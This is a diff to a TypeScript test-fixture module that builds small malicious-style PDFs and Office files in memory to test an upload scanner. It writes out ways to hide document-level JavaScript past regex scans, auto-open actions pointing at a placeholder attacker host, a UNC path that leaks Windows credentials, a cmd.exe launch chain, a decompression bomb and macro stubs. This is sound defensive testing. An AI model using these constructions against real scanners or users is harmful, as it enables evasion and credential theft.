@@ -1,6 +1,6 @@
 import { deflateSync } from 'node:zlib';
 import * as CFB from 'cfb';
-import { strToU8, zipSync } from 'fflate';
+import { strToU8, unzipSync, zipSync } from 'fflate';
 import sharp from 'sharp';
 
 /** Real, tiny files of every kind the upload rules talk about, built in memory for the tests. */
@@ -231,4 +231,243 @@ export async function png(): Promise<Buffer> {
   return sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
     .png()
     .toBuffer();
+}
+
+// --- PDFs from the outside security test (each carries document-level JavaScript or an action a reader
+// runs by itself, in a syntax a regex scan missed; poppler's `pdfinfo -js` prints the script of each). ---
+
+const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+/** The catalog's /Names dictionary with a document-level script (object `script`). */
+const JS_NAMES = (script: number) => `<< /JavaScript << /Names [(inicio) ${script} 0 R] >> >>`;
+
+/**
+ * A PDF 1.5 as modern writers lay it out: body objects 1..n, objects `compressed` (number → [object
+ * stream number, index]) inside object streams, and a cross-reference stream listing both, so readers
+ * (poppler, pdf.js) find the compressed objects the normal way.
+ */
+function pdf15(objects: string[], compressed: Record<number, [number, number]>, trailer = ''): Buffer {
+  let body = '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n';
+  const offsets: number[] = [];
+  objects.forEach((object, i) => {
+    offsets.push(Buffer.byteLength(body, 'latin1'));
+    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
+  });
+  const xrefNumber = Math.max(objects.length, ...Object.keys(compressed).map(Number)) + 1;
+  const size = xrefNumber + 1;
+  const xrefOffset = Buffer.byteLength(body, 'latin1');
+  const rows = Buffer.alloc(size * 7);
+  for (let n = 0; n < size; n++) {
+    const row = rows.subarray(n * 7, n * 7 + 7);
+    const inStream = compressed[n];
+    if (n >= 1 && n <= objects.length) {
+      row.writeUInt8(1, 0);
+      row.writeUInt32BE(offsets[n - 1]!, 1);
+    } else if (n === xrefNumber) {
+      row.writeUInt8(1, 0);
+      row.writeUInt32BE(xrefOffset, 1);
+    } else if (inStream) {
+      row.writeUInt8(2, 0);
+      row.writeUInt32BE(inStream[0], 1);
+      row.writeUInt16BE(inStream[1], 5);
+    } else {
+      row.writeUInt8(0, 0);
+      row.writeUInt16BE(n === 0 ? 65535 : 0, 5);
+    }
+  }
+  body += `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R${trailer} /Length ${rows.length} >>\nstream\n${rows.toString('latin1')}\nendstream\nendobj\n`;
+  body += `startxref\n${xrefOffset}\n%%EOF\n`;
+  return Buffer.from(body, 'latin1');
+}
+
+/** Document-level JavaScript: the catalog's /Names (6) and the script (5), both in object stream 4 (`streamDict` around its data). */
+function pdfOpeningCompressed(
+  streamDict: (data: string, header: string) => string,
+  extra: string[] = [],
+): Buffer {
+  const { data, header } = packed([JS_ACTION, JS_NAMES(5)], 5);
+  return pdf15(
+    [
+      '<< /Type /Catalog /Pages 2 0 R /Names 6 0 R >>',
+      ...PAGE_OBJECTS.slice(1),
+      `${streamDict(data, header)}\nstream\n${data}\nendstream`,
+      ...extra,
+    ],
+    { 5: [4, 0], 6: [4, 1] },
+  );
+}
+
+/** Catalog opening object 5, pages, and objects 4… = `objects`. */
+function pdfOpening(objects: string[]): Buffer {
+  return pdfFrom(
+    ['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE_OBJECTS.slice(1), ...objects],
+    '1.5',
+  );
+}
+function packed(objects: string[], first: number): { data: string; header: string } {
+  let offsets = '';
+  let body = '';
+  objects.forEach((object, i) => {
+    offsets += `${first + i} ${body.length} `;
+    body += `${object}\n`;
+  });
+  return {
+    data: deflateSync(Buffer.from(`${offsets}${body}`, 'latin1')).toString('latin1'),
+    header: `/N ${objects.length} /First ${offsets.length}`,
+  };
+}
+
+/** A comment between `/Type` and `/ObjStm`. */
+export function pdfObjStmTypeComment(): Buffer {
+  return pdfOpeningCompressed(
+    (data, header) => `<< /Type % tipo\n/ObjStm ${header} /Filter /FlateDecode /Length ${data.length} >>`,
+  );
+}
+
+/** `/Type /ObjStm` more than 4 KB before `stream`. */
+export function pdfObjStmTypeFarFromStream(): Buffer {
+  return pdfOpeningCompressed(
+    (data, header) =>
+      `<< /Type /ObjStm ${header} /Pad (${'x'.repeat(5000)}) /Filter /FlateDecode /Length ${data.length} >>`,
+  );
+}
+
+/**
+ * An indirect `/Filter n 0 R` whose object is `[/FlateDecode]`, written before the object stream or, with
+ * `filterAfter`, after it; the JavaScript action (9) is compressed in the object stream.
+ */
+export function pdfObjStmIndirectFilter(filterAfter = false): Buffer {
+  const { data, header } = packed([JS_ACTION, JS_NAMES(9)], 9);
+  const stream = (filter: number) =>
+    `<< /Type /ObjStm ${header} /Filter ${filter} 0 R /Length ${data.length} >>\nstream\n${data}\nendstream`;
+  const [objects, streamNumber] = filterAfter
+    ? [[stream(5), '[/FlateDecode]'], 4]
+    : [['[/FlateDecode]', stream(4)], 5];
+  return pdf15(['<< /Type /Catalog /Pages 2 0 R /Names 10 0 R >>', ...PAGE_OBJECTS.slice(1), ...objects], {
+    9: [streamNumber, 0],
+    10: [streamNumber, 1],
+  });
+}
+
+/** A comment between `/Filter` and `/FlateDecode`. */
+export function pdfObjStmFilterComment(): Buffer {
+  return pdfOpeningCompressed(
+    (data, header) => `<< /Type /ObjStm ${header} /Filter % filtro\n/FlateDecode /Length ${data.length} >>`,
+  );
+}
+
+/** /OpenAction to a URI (the reader opens a web page by itself). */
+export function pdfOpenActionUri(): Buffer {
+  return pdfOpening(['null', '<< /S /URI /URI (https://atacante.example/x) >>']);
+}
+
+/** /OpenAction /GoToR to a UNC path (Windows sends the user's credentials to that host). */
+export function pdfOpenActionGoToRUnc(): Buffer {
+  return pdfOpening(['null', '<< /S /GoToR /F (\\\\\\\\atacante.example\\\\share\\\\x.pdf) /D [0 /Fit] >>']);
+}
+
+/** A page's /AA (open trigger) launching a URI. */
+export function pdfPageAutoActionUri(): Buffer {
+  return pdfFrom([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
+    '<< /S /URI /URI (https://atacante.example/x) >>',
+  ]);
+}
+
+/** A GoTo open action (jump to page 1) whose /Next runs a Launch action. */
+export function pdfOpenActionChainLaunch(): Buffer {
+  return pdfOpening(['null', '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>']);
+}
+
+/** A clickable link to a web page (not automatic): allowed, CVs carry them. */
+export function pdfWithLinkAnnotation(): Buffer {
+  return pdfFrom([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+    '<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A << /S /URI /URI (https://www.linkedin.com/in/ana) >> >>',
+  ]);
+}
+
+/** An open action that only jumps to the first page (what some writers add): allowed. */
+export function pdfOpenActionGoTo(): Buffer {
+  return pdfOpening(['null', '<< /S /GoTo /D [3 0 R /Fit] >>']);
+}
+
+/** An embedded file in the catalog's /Names /EmbeddedFiles tree. */
+export function pdfWithEmbeddedFile(): Buffer {
+  const payload = 'MZ fake executable';
+  return pdfFrom([
+    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(factura.exe) 4 0 R] >> >> >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+    '<< /Type /Filespec /F (factura.exe) /EF << /F 5 0 R >> >>',
+    `<< /Type /EmbeddedFile /Length ${payload.length} >>\nstream\n${payload}\nendstream`,
+  ]);
+}
+
+/** A file attachment annotation on the page. */
+export function pdfWithFileAttachmentAnnotation(): Buffer {
+  return pdfFrom([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (nota.txt) >>',
+  ]);
+}
+
+/** A RichMedia (Flash/video) annotation. */
+export function pdfWithRichMedia(): Buffer {
+  return pdfFrom([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
+  ]);
+}
+
+/** Encrypted with the standard handler (RC4, empty user password: readers open it without asking). */
+export function pdfEncrypted(): Buffer {
+  const body = pdf().toString('latin1');
+  return Buffer.from(
+    body.replace(
+      '/Root 1 0 R',
+      `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4 >> /ID [<${'11'.repeat(16)}> <${'11'.repeat(16)}>]`,
+    ),
+    'latin1',
+  );
+}
+
+/** Starts like a PDF, then garbage: no objects a parser can read. */
+export function pdfUnreadable(): Buffer {
+  return Buffer.concat([Buffer.from('%PDF-1.7\n', 'latin1'), Buffer.alloc(2048, 0x41)]);
+}
+
+/** An object stream that inflates to 100 MB (zip bomb). */
+export function pdfObjStmBomb(): Buffer {
+  const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20), { level: 9 }).toString('latin1');
+  return pdfOpening([
+    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`,
+  ]);
+}
+
+/** Word 97 with a VBA project (`Macros/VBA` storage), as Word saves a .doc with macros. */
+export function docWithMacros(): Buffer {
+  return cfb({
+    WordDocument: Buffer.alloc(1024, 0),
+    '1Table': Buffer.alloc(512, 0),
+    'Macros/VBA/ThisDocument': Buffer.from(
+      'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub',
+      'latin1',
+    ),
+    'Macros/VBA/dir': Buffer.alloc(64, 1),
+    'Macros/PROJECT': Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"', 'latin1'),
+  });
+}
+
+/** A .docx zip carrying a VBA project (a .docm renamed). */
+export function docxWithMacros(): Buffer {
+  const base = unzipSync(docx());
+  return Buffer.from(zipSync({ ...base, 'word/vbaProject.bin': new Uint8Array(64) }));
 }
